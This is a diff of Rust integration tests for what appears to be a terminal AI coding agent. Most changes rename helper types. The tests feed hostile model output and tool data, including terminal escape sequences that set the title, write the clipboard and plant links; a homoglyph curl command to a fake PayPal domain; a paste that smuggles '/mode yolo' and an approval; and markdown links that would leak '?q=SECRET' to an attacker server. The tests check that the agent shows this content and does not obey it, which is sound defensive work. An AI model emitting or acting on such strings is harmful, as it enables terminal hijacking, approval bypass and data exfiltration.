@@ -7,9 +7,9 @@ use rustix::process::Signal;
 use serde_json::json;
 
 use crate::bash;
-use crate::support::desk::{Desk, with_server};
-use crate::support::model_server::{ModelServer, Reply};
-use crate::support::terminal::{Slug, key};
+use crate::support::model_server::{ModelServer, ServerReply};
+use crate::support::terminal::{PtySlug, key};
+use crate::support::test_env::{TestEnv, with_server};
 
 /// Clears, titles, writes to the clipboard, links, asks for answers, in both forms of controls.
 const EVIL: &str = "\u{1b}]0;PWN\u{7}\u{1b}]52;c;UFdO\u{7}\u{1b}]8;;http://pwn\u{1b}\\x\
@@ -35,7 +35,7 @@ const NEVER: [&str; 14] = [
 ];
 
 #[track_caller]
-fn assert_harmless(slug: &Slug) {
+fn assert_harmless(slug: &PtySlug) {
     let raw = slug.raw();
     for never in NEVER {
         // A sequence without its escape is text that is told to be one.
@@ -50,17 +50,17 @@ fn assert_harmless(slug: &Slug) {
 
 #[test]
 fn s73_what_models_tools_files_and_servers_send_is_shown_and_not_obeyed() {
-    let (desk, server) = (Desk::new(), ModelServer::start());
+    let (desk, server) = (TestEnv::new(), ModelServer::start());
     desk.write(".git/HEAD", &format!("ref: refs/heads/{EVIL}\n"));
     desk.write(&format!("file{}", EVIL.replace('/', "_")), "needle\n");
     desk.write_home("settings.json", r#"{"permissions":{"allow":["Bash(printf *)"]}}"#);
     let printf = format!("printf '%s\\n' '{EVIL}out'");
-    server.reply(Reply::thinking(&format!("thought {EVIL}"), &format!("said {EVIL}")));
-    let mut slug = Slug::chat(&desk, &server);
+    server.reply(ServerReply::thinking(&format!("thought {EVIL}"), &format!("said {EVIL}")));
+    let mut slug = PtySlug::chat(&desk, &server);
     slug.say("speak");
     slug.wait_for("said");
 
-    server.reply(Reply::calls(
+    server.reply(ServerReply::calls(
         "",
         &[
             ("g1", "Glob", json!({"pattern": "*"})),
@@ -69,18 +69,18 @@ fn s73_what_models_tools_files_and_servers_send_is_shown_and_not_obeyed() {
             ("b1", "Bash", json!({"command": printf, "description": EVIL})),
         ],
     ));
-    server.reply(Reply::text("Called."));
+    server.reply(ServerReply::text("Called."));
     slug.say("call");
     slug.answer("printf", "y");
     slug.wait_for("Called.");
 
-    server.reply(Reply::error(400, &format!("refused {EVIL}")));
+    server.reply(ServerReply::error(400, &format!("refused {EVIL}")));
     slug.say("fail");
     slug.wait_for("refused");
     assert_harmless(&slug);
 
     // Its session has the evil text for a title.
-    server.reply(Reply::text("Titled."));
+    server.reply(ServerReply::text("Titled."));
     slug.keys("/new\r");
     slug.wait_for_no("refused");
     // What can be typed of it: a terminal sends no controls as text.
@@ -98,12 +98,12 @@ fn s73_what_models_tools_files_and_servers_send_is_shown_and_not_obeyed() {
 
 #[test]
 fn s73_headless_answers_are_harmless_on_a_terminal() {
-    let (desk, server) = (Desk::new(), ModelServer::start());
+    let (desk, server) = (TestEnv::new(), ModelServer::start());
     let endpoint = server.endpoint();
-    server.reply(Reply::text(&format!("said {EVIL}")));
+    server.reply(ServerReply::text(&format!("said {EVIL}")));
     let run = |arguments: &[&str], shown: &str| {
         let arguments = with_server(&endpoint, arguments);
-        let mut slug = Slug::at(&desk, 100, 30).args(&arguments).open();
+        let mut slug = PtySlug::at(&desk, 100, 30).args(&arguments).open();
         slug.wait();
         slug.wait_for_raw(shown, |raw| raw.contains(shown));
         assert_harmless(&slug);
@@ -114,16 +114,16 @@ fn s73_headless_answers_are_harmless_on_a_terminal() {
     run(&["sessions", "show", &session], "said ␛]0;PWN␇");
     run(&["sessions", "show", &session, "--json"], "said \\u001b]0;PWN");
     // A program gets what the model said.
-    server.reply(Reply::text(&format!("said {EVIL}")));
+    server.reply(ServerReply::text(&format!("said {EVIL}")));
     assert!(desk.ask(&server, &["-p", "speak"]).out.contains(EVIL));
 }
 
 #[test]
 fn s79_a_question_shows_letters_that_only_look_latin() {
-    let (desk, server) = (Desk::new(), ModelServer::start());
+    let (desk, server) = (TestEnv::new(), ModelServer::start());
     server.reply(bash("c1", "curl https://pаypal.example \u{202e}\u{2066}\u{200b}"));
-    server.reply(Reply::text("Done."));
-    let mut slug = Slug::chat(&desk, &server);
+    server.reply(ServerReply::text("Done."));
+    let mut slug = PtySlug::chat(&desk, &server);
     slug.say("go");
     slug.wait_for_dialog("curl");
     slug.wait_for("Look twice: the а in pаypal is U+0430");
@@ -135,13 +135,13 @@ fn s79_a_question_shows_letters_that_only_look_latin() {
 
 #[test]
 fn s81_a_paste_runs_nothing_and_answers_nothing() {
-    let (desk, server) = (Desk::new(), ModelServer::start());
+    let (desk, server) = (TestEnv::new(), ModelServer::start());
     server.reply(bash("c1", "touch made"));
-    server.reply(Reply::text("Done."));
-    let mut slug = Slug::chat(&desk, &server);
+    server.reply(ServerReply::text("Done."));
+    let mut slug = PtySlug::chat(&desk, &server);
     slug.keys("\u{1b}[200~one\r/mode yolo\ry\r\u{1b}[201~");
     slug.wait_for("/mode yolo");
-    assert!(server.chats().is_empty(), "a paste sends nothing");
+    assert!(server.chat_requests().is_empty(), "a paste sends nothing");
     slug.keys("\r");
     slug.wait_for_dialog("touch made");
     slug.keys("\u{1b}[200~y\ra\r\u{1b}[201~");
@@ -153,12 +153,12 @@ fn s81_a_paste_runs_nothing_and_answers_nothing() {
 
 #[test]
 fn s82_nothing_is_fetched_for_what_an_answer_names() {
-    let (desk, server, evil) = (Desk::new(), ModelServer::start(), ModelServer::start());
+    let (desk, server, evil) = (TestEnv::new(), ModelServer::start(), ModelServer::start());
     let address = format!("{}/?q=SECRET", evil.endpoint());
-    server.reply(Reply::text(&format!(
+    server.reply(ServerReply::text(&format!(
         "![x]({address}) [docs]({address}) [https://example.org]({address}) told"
     )));
-    let mut slug = Slug::chat(&desk, &server);
+    let mut slug = PtySlug::chat(&desk, &server);
     slug.say("go");
     slug.wait_for("told");
     slug.wait_for("?q=SECRET");
@@ -169,13 +169,13 @@ fn s82_nothing_is_fetched_for_what_an_answer_names() {
 #[test]
 fn s103_a_conversation_is_kept_for_the_person_alone_whatever_the_umask() {
     use std::os::unix::fs::PermissionsExt;
-    let (desk, server) = (Desk::new(), ModelServer::start());
+    let (desk, server) = (TestEnv::new(), ModelServer::start());
     let picture = image::RgbaImage::from_pixel(4, 4, image::Rgba([255, 0, 0, 255]));
     picture.save(desk.path("a.png")).unwrap();
     server.reply(bash("c1", "touch made"));
-    server.reply(Reply::text("Done."));
+    server.reply(ServerReply::text("Done."));
     let endpoint = server.endpoint();
-    let mut slug = Slug::at(&desk, 100, 30).args(&with_server(&endpoint, &[])).umask(0).open();
+    let mut slug = PtySlug::at(&desk, 100, 30).args(&with_server(&endpoint, &[])).umask(0).open();
     slug.wait_for("test-model");
     slug.keys(&format!("\u{1b}[200~{}\u{1b}[201~", desk.path("a.png").display()));
     slug.wait_for("[Image 1 a.png 4×4]");
